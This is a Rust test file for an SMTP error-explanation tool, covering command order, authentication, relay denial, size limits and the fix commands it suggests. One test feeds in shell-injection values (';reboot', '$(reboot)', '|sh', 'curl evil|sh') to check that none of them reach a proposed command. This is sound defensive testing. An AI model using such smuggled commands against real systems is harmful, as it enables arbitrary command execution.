//! What the session tells beside a reply: the order of commands, logins, transactions, sizes.

use super::*;
use crate::session::Phase;
use crate::wire::{Capabilities, CommandLine, Verb};

/// Explains `text` as the answer to `command`, in a live session at a prompt.
fn answer<'a>(text: &str, command: &'a str, change: impl FnOnce(&mut Situation<'a>)) -> Explanation {
    // They have to live as long as what the test adds to the situation.
    let reply: &'static Reply = Box::leak(Box::new(reply(text)));
    let line: &'static CommandLine = Box::leak(Box::new(CommandLine::parse(command.as_bytes())));
    let mut situation = Situation::of(reply);
    (situation.live, situation.asked.prompt) = (true, true);
    (situation.verb, situation.command) = (Some(&line.verb), Some(line.bytes.as_slice()));
    situation.stood = Some(Phase::Ready);
    situation.phase = match line.verb {
        Verb::Auth => Phase::Auth,
        Verb::Bdat => Phase::Bdat,
        _ => Phase::Ready,
    };
    situation.host = Some("mx.example.org");
    change(&mut situation);
    explain(&situation).remove(0)
}

fn first_cause(told: &Explanation) -> &str {
    told.causes.first().map_or("", |cause| cause.as_ref())
}

fn all(told: &Explanation) -> String {
    let fixes = told.fixes.iter().map(|fix| fix.text.as_ref());
    told.causes.iter().map(|cause| cause.as_ref()).chain(fixes).collect::<Vec<_>>().join("\n")
}

const ORDER: &str = "503 5.5.1 Bad sequence of commands";

#[test]
fn what_must_come_before_auth_is_ehlo() {
    let told = answer(ORDER, "AUTH PLAIN", |_| {});
    assert_eq!(first_cause(&told), "EHLO has to come first");
    assert_eq!(commands(&told), ["EHLO localhost"]);
    assert!(!all(&told).contains("done already"), "{}", all(&told));
    let told =
        answer(ORDER, "AUTH PLAIN", |s| (s.greeted, s.client) = (Some(&Verb::Helo), Some("me.example")));
    assert!(first_cause(&told).contains("HELO brings none"), "{}", first_cause(&told));
    assert_eq!(commands(&told), ["EHLO me.example"]);
    let told = answer(ORDER, "MAIL FROM:<a@b.example>", |s| s.lmtp = true);
    assert_eq!(first_cause(&told), "LHLO has to come first");
    assert_eq!(commands(&told), ["LHLO localhost"]);
}

#[test]
fn what_must_come_before_a_chunk_is_named() {
    let caps = offers(&["CHUNKING"]);
    let of =
        |stood| answer(ORDER, "BDAT 10 LAST", |s| (s.capabilities, s.stood) = (Some(&caps), Some(stood)));
    assert!(first_cause(&of(Phase::Ready)).contains("MAIL must come before BDAT"));
    assert!(first_cause(&of(Phase::Mail)).contains("RCPT must come before BDAT"));
    let told = answer(ORDER, "DATA", |s| (s.capabilities, s.stood) = (Some(&caps), Some(Phase::Bdat)));
    assert!(first_cause(&told).contains("cannot be mixed"), "{}", first_cause(&told));
}

#[test]
fn an_open_transaction_is_known() {
    let caps = offers(&["AUTH PLAIN", "STARTTLS"]);
    for command in ["AUTH PLAIN", "STARTTLS", "MAIL FROM:<a@b.example>"] {
        let told = answer("503 5.5.1 Error: MAIL transaction in progress", command, |s| {
            (s.capabilities, s.greeted, s.stood) = (Some(&caps), Some(&Verb::Ehlo), Some(Phase::Mail));
        });
        assert!(first_cause(&told).starts_with("a transaction is open"), "{command}: {}", all(&told));
        assert_eq!(commands(&told), ["RSET"], "{command}");
    }
    let told = answer(ORDER, "STARTTLS", |s| s.tls = true);
    assert_eq!(first_cause(&told), "TLS is on already");
    // Where none is, RSET is no help; nor is EHLO behind a HELO that was taken.
    let told = answer(ORDER, "MAIL FROM:<a@b.example>", |s| s.greeted = Some(&Verb::Helo));
    assert!(commands(&told).is_empty() && !all(&told).contains("has to come first"), "{}", all(&told));
}

#[test]
fn a_recipient_without_a_greeting_lacks_what_the_server_says() {
    let told = answer("503 5.5.1 Error: send HELO/EHLO first", "RCPT TO:<a@b.example>", |_| {});
    assert_eq!(commands(&told), ["EHLO localhost"]);
    let told = answer("503 5.5.1 Error: need MAIL command", "RCPT TO:<a@b.example>", |_| {});
    assert_eq!(commands(&told), ["MAIL FROM:<you@example.org>"]);
}

#[test]
fn the_transaction_ends_before_tls_and_login() {
    let caps = offers(&["STARTTLS", "AUTH PLAIN"]);
    for text in ["554 5.7.1 <b@c.example>: Relay access denied", "530 5.7.0 Authentication required"] {
        let of = |stood, prompt| {
            let told = answer(text, "RCPT TO:<b@c.example>", |s| {
                (s.capabilities, s.stood, s.recipient) = (Some(&caps), Some(stood), Some("b@c.example"));
                s.asked.prompt = prompt;
            });
            let lines = render::brief(&told, render::Headline::default(), 300, &[]);
            (commands(&told).join("\n"), lines.iter().map(render::plain).collect::<String>())
        };
        let (open, shown) = of(Phase::Mail, true);
        assert!(open.starts_with("RSET\n/starttls\n/auth PLAIN"), "{text}: {open}");
        assert!(shown.contains("RSET · then start TLS"), "{shown}");
        assert!(of(Phase::Ready, true).0.starts_with("/starttls\n"));
        // A new session has no transaction.
        assert!(of(Phase::Mail, false).0.starts_with("heloise --starttls"));
    }
}

#[test]
fn an_address_is_proposed_where_it_has_a_place() {
    let unknown = "550 5.1.1 <b@c.example>: User unknown";
    let of = |stood| answer(unknown, "RCPT TO:<b@c.example>", |s| s.stood = Some(stood));
    assert!(commands(&of(Phase::Mail)).contains(&"RCPT TO:<postmaster@c.example>"));
    assert!(!commands(&of(Phase::Ready)).iter().any(|c| c.starts_with("RCPT")));
    let owned = "553 5.7.1 <b@c.example>: Sender address rejected: not owned by user alice";
    let of = |user, stood| {
        let told = answer(owned, "MAIL FROM:<b@c.example>", |s| {
            (s.authenticated, s.stood, s.sender) = (Some(user), Some(stood), Some("b@c.example"));
        });
        assert!(first_cause(&told).contains("login"), "{}", all(&told));
        commands(&told).join("\n")
    };
    assert!(of("alice@c.example", Phase::Ready).starts_with("MAIL FROM:<alice@c.example>"));
    assert!(of("alice@c.example", Phase::Mail).starts_with("RSET\nMAIL FROM:<alice@c.example>"));
    assert!(!of("alice", Phase::Ready).contains("MAIL"));
}

#[test]
fn a_login_is_not_asked_for_twice() {
    let caps = offers(&["AUTH EXTERNAL PLAIN"]);
    for text in [
        "554 5.7.1 <b@c.example>: Relay access denied",
        "550 5.7.1 <b@c.example>... Relaying denied. Proper authentication required.",
        "553 sorry, that domain isn't in my list of allowed rcpthosts (#5.7.1)",
        "550 relay not permitted",
        "550 5.7.54 SMTP; Unable to relay recipient in non-accepted domain",
        "530 5.7.1 Relaying not allowed, use SMTP AUTH",
        "530 5.7.0 Authentication required",
    ] {
        for user in ["alice", ""] {
            let told = answer(text, "RCPT TO:<b@c.example>", |s| {
                (s.capabilities, s.authenticated, s.recipient) =
                    (Some(&caps), Some(user), Some("b@c.example"));
            });
            assert!(first_cause(&told).starts_with("you are authenticated as"), "{text}: {}", all(&told));
            for no in ["not authenticated", "neither authenticated", "no AUTH came"] {
                assert!(!all(&told).contains(no), "{text}: {}", all(&told));
            }
            assert!(!commands(&told).iter().any(|c| c.starts_with("/auth")), "{text}");
        }
        let told = answer(text, "RCPT TO:<b@c.example>", |s| s.capabilities = Some(&caps));
        assert!(first_cause(&told).starts_with("you have not authenticated"), "{text}: {}", all(&told));
    }
}

#[test]
fn a_login_that_is_not_offered_is_not_proposed() {
    let wanted = "530 5.7.0 Authentication required";
    let bare = offers(&["SIZE"]);
    for tls in [false, true] {
        let told =
            answer(wanted, "MAIL FROM:<a@b.example>", |s| (s.capabilities, s.tls) = (Some(&bare), tls));
        assert!(first_cause(&told).contains("EHLO lists n"), "{}", all(&told));
    }
    let of = |change: fn(&mut Situation<'static>)| {
        let told = answer(wanted, "MAIL FROM:<a@b.example>", change);
        commands(&told).first().map(|c| (*c).to_owned())
    };
    assert_eq!(of(|_| {}).as_deref(), Some("EHLO localhost"));
    assert_eq!(of(|s| s.greeted = Some(&Verb::Helo)).as_deref(), Some("EHLO localhost"));
    assert_eq!(of(|s| (s.tls, s.client) = (true, Some("me.example"))).as_deref(), Some("EHLO me.example"));
}

#[test]
fn sizes_are_compared_where_a_limit_is_listed() {
    let big = "552 5.3.4 Message size exceeds fixed limit";
    let of = |caps: &Capabilities, size| {
        all(&answer(big, "DATA", |s| (s.capabilities, s.declared_size) = (Some(caps), size)))
    };
    let (listed, bare) = (offers(&["SIZE 1000"]), offers(&["SIZE 0"]));
    assert!(of(&listed, Some(2000)).starts_with("the message has 2000 octets; the server takes 1000"));
    assert!(of(&listed, None).contains("that EHLO lists"));
    assert!(!of(&bare, Some(2000)).contains("that EHLO lists"));
    assert!(!of(&offers(&["PIPELINING"]), None).contains("that EHLO lists"));
}

#[test]
fn what_may_come_out_of_a_log_harms_no_shell() {
    let denied = reply("554 5.7.1 Relay access denied");
    for bad in [
        "b@example.net;reboot",
        "b@$(reboot).example.net",
        "b@`reboot`.example.net",
        "b@example.net|sh",
        "b@example.net&x",
        "b@-x.example.net",
        "b@exa mple.net",
        "b@example.net\n",
    ] {
        let told = explain(&Situation { recipient: Some(bad), ..Situation::of(&denied) }).remove(0);
        assert!(commands(&told).is_empty(), "{bad}: {:?}", commands(&told));
        assert!(told.fixes.iter().any(|fix| fix.text.contains("own mail host")), "{bad}");
    }
    let good = Situation { recipient: Some("b@bücher.example"), ..Situation::of(&denied) };
    assert_eq!(commands(&explain(&good)[0]), ["heloise --mx bücher.example"]);
    let tls = reply("530 5.7.0 Must issue a STARTTLS command first");
    let caps = offers(&["STARTTLS"]);
    for host in ["x.example;curl evil|sh", "mx.example.net. (192.0.2.1, the server for x)", "-x"] {
        for live in [false, true] {
            let of = Situation { host: Some(host), capabilities: Some(&caps), live, ..Situation::of(&tls) };
            assert!(explain(&of).iter().all(|told| commands(told).is_empty()), "{host}");
        }
    }
    // What the person asked for is their own.
    let asked = Asked::of("--mx example.net");
    let of = Situation { asked, capabilities: Some(&caps), live: true, ..Situation::of(&tls) };
    assert_eq!(commands(&explain(&of)[0]).first(), Some(&"heloise --starttls --mx example.net"));
}

#[test]
fn a_second_reading_is_no_surer_than_the_first() {
    for text in [
        "530 5.7.1 Relaying not allowed, use SMTP AUTH",
        "550 Relaying denied. Proper authentication required.",
    ] {
        let told = explain(&Situation::of(&reply(text)));
        assert!(told.len() > 1, "{text}");
        assert!(told.iter().all(|other| other.confidence <= told[0].confidence), "{text}");
    }
}

#[test]
fn why_the_server_ends_the_session_is_not_made_up() {
    let told = answer("421 4.3.2 Service shutting down", "NOOP", |_| {});
    assert!(!all(&told).contains("nothing came from this side"), "{}", all(&told));
    assert!(first_cause(&told).contains("stopped"), "{}", all(&told));
    let told = answer("421 4.4.2 Error: timeout exceeded", "NOOP", |_| {});
    assert!(first_cause(&told).contains("nothing came from this side"), "{}", all(&told));
    let told = answer("421 closing", "NOOP", |_| {});
    assert!(first_cause(&told).contains("does not say why"), "{}", all(&told));
    let told = answer("421 closing", "QUIT", |_| {});
    assert!(first_cause(&told).contains("to end anyway"), "{}", all(&told));
    assert!(!all(&told).contains("nothing came from this side"), "{}", all(&told));
}

#[test]
fn content_was_not_asked_for_by_another_code() {
    let told = answer("250 ok", "DATA", |s| s.stood = Some(Phase::Rcpt));
    assert!(first_cause(&told).contains("354 alone"), "{}", all(&told));
    assert!(!all(&told).contains("did what was asked"), "{}", all(&told));
}

#[test]
fn the_mechanism_just_refused_is_not_another() {
    let caps = offers(&["AUTH PLAIN LOGIN CRAM-MD5"]);
    let told = answer("535 5.7.8 Error: authentication failed", "AUTH PLAIN", |s| {
        (s.capabilities, s.greeted, s.mechanism) = (Some(&caps), Some(&Verb::Ehlo), Some("PLAIN"));
    });
    assert!(all(&told).contains("try another mechanism: LOGIN CRAM-MD5"), "{}", all(&told));
}

#[test]
fn a_filter_may_mean_the_domain_in_from() {
    let text =
        "550 5.7.26 Unauthenticated email from example.com is not accepted due to domain's DMARC policy.";
    let told = answer(text, "MAIL FROM:<a@other.example>", |s| s.sender = Some("a@other.example"));
    assert_eq!(told.reason.slug(), "sender-authentication");
    let headline = told.inferred.as_ref().map_or("", |inferred| &inferred.text);
    assert!(headline.contains("example.com") && !headline.contains("other.example"), "{headline}");
}

#[test]
fn a_provider_is_known_by_a_name_further_on_in_its_greeting() {
    let refused = reply("535 5.7.8 authentication failed");
    let of = |banner| explain(&Situation { banner: Some(banner), ..Situation::of(&refused) })[0].provider;
    assert_eq!(of("SG ESMTP service ready at ismtpd0001p1lon1.sendgrid.net"), Some("SendGrid"));
    assert_eq!(of("mx.example.org ESMTP, as smtp.sendgrid.net"), None);
}

#[test]
fn a_provider_is_told_of_the_login_that_was_given() {
    let caps = offers(&["AUTH LOGIN PLAIN"]);
    let of = |host, login| {
        let told = answer("535 5.7.8 Username and Password not accepted", "AUTH PLAIN", |s| {
            (s.host, s.login, s.mechanism) = (Some(host), Some(login), Some("PLAIN"));
            (s.capabilities, s.greeted, s.tls) = (Some(&caps), Some(&Verb::Ehlo), true);
        });
        assert!(told.provider.is_some(), "{host}");
        assert!(!commands(&told).iter().any(|c| c.contains("OAUTH")), "{host}: {:?}", commands(&told));
        all(&told)
    };
    let (given, other) = (of("smtp.sendgrid.net", "apikey"), of("smtp.sendgrid.net", "alice"));
    assert!(!given.contains("user name") && other.contains("literal word apikey"), "{given}\n{other}");
    for host in ["smtp.gmail.com", "smtp.office365.com"] {
        let (full, short) = (of(host, "alice@gmail.com"), of(host, "alice"));
        assert!(!full.contains("full address") && short.contains("full address"), "{full}\n{short}");
    }
}

#[test]
fn words_of_the_login_are_about_the_login() {
    let told = answer("525 5.7.13 User Account Disabled", "AUTH PLAIN", |_| {});
    assert_eq!(told.reason.slug(), "account-locked");
    assert!(!all(&told).contains("two-step") && !all(&told).contains("app password"), "{}", all(&told));
    let told = answer("432 4.7.12 A password transition is needed", "AUTH CRAM-MD5", |s| {
        s.mechanism = Some("CRAM-MD5");
    });
    assert_eq!(told.reason.slug(), "credentials-rejected");
    assert_eq!(commands(&told), ["/auth PLAIN"]);
}

#[test]
fn what_a_log_says_of_the_way_to_the_next_host() {
    for (text, slug) in [
        (
            "4.4.2 conversation with mx.example.net[192.0.2.1] timed out while sending RCPT TO",
            "network-error",
        ),
        ("4.0.0 Deferred: Connection timed out with mx.example.net.", "network-error"),
        ("Connection timed out", "network-error"),
        (
            "4.4.3 Host or domain name not found. Name service error for name=example.net type=MX: Host not found, try again",
            "network-error",
        ),
        ("a TLS session is required, but the server did not offer TLS support", "tls-unavailable"),
        ("Mailing to remote domains not supported", "relay-denied"),
        ("retry timeout exceeded", "delivery-expired"),
    ] {
        let told = first(text);
        assert_eq!(told.reason.slug(), slug, "{text}");
        assert_ne!(told.actor, Actor::Sender, "{text}");
    }
}

#[test]
fn a_token_that_was_refused_is_no_password() {
    for (host, text) in [
        ("smtp.gmail.com", "535-5.7.8 Username and Password not accepted."),
        ("smtp.gmail.com", "534-5.7.9 Application-specific password required. InvalidSecondFactor"),
        ("smtp.mail.yahoo.com", "535 5.7.0 (#AUTH002) Username and Password not accepted"),
        ("smtp.office365.com", "535 5.7.3 Authentication unsuccessful"),
        ("smtp.zoho.com", "535 Authentication Failed"),
        ("mx.example.org", "535 5.7.8 authentication failed"),
    ] {
        let told = answer(text, "AUTH XOAUTH2", |s| {
            (s.host, s.mechanism, s.tls) = (Some(host), Some("XOAUTH2"), true);
        });
        assert!(first_cause(&told).contains("token"), "{host}: {}", all(&told));
        assert!(!all(&told).contains("ordinary password was sent"), "{host}: {}", all(&told));
        let wrong = |fix: &Fix| {
            fix.text.contains("password") && fix.command.as_deref().is_some_and(|c| c.contains("XOAUTH2"))
        };
        assert!(!told.fixes.iter().any(wrong), "{host}: {}", all(&told));
    }
}

#[test]
fn a_login_that_was_cancelled_or_is_no_base64_is_no_wrong_password() {
    let of = |text: &str, line: &[u8], no_base64: bool| {
        let reply = reply(text);
        let verb = Verb::Auth;
        let command = Some(line);
        let situation =
            Situation { verb: Some(&verb), command, no_base64, live: true, ..Situation::of(&reply) };
        explain(&situation).remove(0)
    };
    for text in ["535 5.7.0 Authentication aborted", "501 5.5.2 syntax error"] {
        assert!(first_cause(&of(text, b"*", false)).contains("was cancelled"), "{text}");
    }
    for text in ["535 5.7.8 invalid parameter supplied", "501 5.5.2 cannot decode AUTH parameter"] {
        assert!(first_cause(&of(text, b"AUTH PLAIN", true)).contains("no base64"), "{text}");
    }
}

#[test]
fn what_was_declared_is_compared_with_what_was_sent() {
    let caps = offers(&["SIZE 100000"]);
    let told = answer("552 5.3.4 Declared size exceeded", "DATA", |s| {
        (s.capabilities, s.declared_size, s.announced) = (Some(&caps), Some(58), Some(20));
    });
    assert!(first_cause(&told).contains("58 octets, and MAIL declared 20"), "{}", all(&told));
    assert!(!all(&told).contains("under the server's limit"), "{}", all(&told));
}

#[test]
fn a_login_that_is_switched_off_is_no_missing_command() {
    let caps = offers(&["STARTTLS"]);
    let told = answer("503 5.5.1 Error: authentication not enabled", "AUTH PLAIN", |s| {
        (s.capabilities, s.greeted) = (Some(&caps), Some(&Verb::Ehlo));
    });
    assert!(first_cause(&told).contains("lists no AUTH"), "{}", all(&told));
    assert_eq!(commands(&told).first(), Some(&"/starttls"), "{}", all(&told));
}

#[test]
fn a_greeting_that_refuses_knows_no_mx() {
    for text in ["554 mx.test No SMTP service here", "521 5.3.2 mx.test does not accept mail"] {
        let reply = reply(text);
        let told =
            explain(&Situation { phase: Phase::Greeting, live: true, ..Situation::of(&reply) }).remove(0);
        assert!(!all(&told).contains("null MX"), "{}", all(&told));
    }
}

#[test]
fn too_many_recipients_at_the_first_is_no_matter_of_this_message() {
    let told =
        answer("452 4.5.3 Too many recipients", "RCPT TO:<b@c.example>", |s| s.stood = Some(Phase::Mail));
    assert!(first_cause(&told).contains("none was accepted in this transaction"), "{}", all(&told));
    assert!(!all(&told).contains("send what was accepted"), "{}", all(&told));
}
